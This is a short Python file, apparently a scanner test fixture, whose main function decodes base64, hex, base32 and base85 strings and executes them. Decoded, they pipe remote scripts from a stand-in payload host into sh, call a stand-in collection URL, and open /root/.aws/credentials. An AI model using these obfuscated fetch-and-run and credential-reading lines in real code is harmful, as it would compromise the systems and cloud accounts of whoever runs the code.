import base64
import binascii
import os
from base64 import b64decode as d
from urllib.request import urlopen


def main():
    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5nZXRsb2dpbigp"))
    exec(d(b"aW1wb3J0IG9zOyBvcy5nZXR1aWQoKQ==").decode("utf-8"))
    os.system(base64.urlsafe_b64decode("Y3VybCAtcyBodHRwczovL3BheWxvYWQuYWNtZS1jZG4uZXhhbXBsZS9pLnNoIHwgc2g=").decode())
    getattr(os, bytes.fromhex("706f70656e").decode())(binascii.unhexlify("6375726c202d732068747470733a2f2f7061796c6f61642e61636d652d63646e2e6578616d706c652f6a2e7368207c207368").decode())
    urlopen(d("aHR0cHM6Ly9jb2xsZWN0LmFjbWUtbWV0cmljcy5leGFtcGxlL2s=").decode())
    open(bytearray.fromhex("2f726f6f742f2e6177732f63726564656e7469616c73").decode())
    exec(base64.b32decode("OJQWS43FEBJXS43UMVWUK6DJOQUDIKI="))
    exec(base64.b85decode("a$#w6Wgt^|b97~GMR;j+C^IP"))
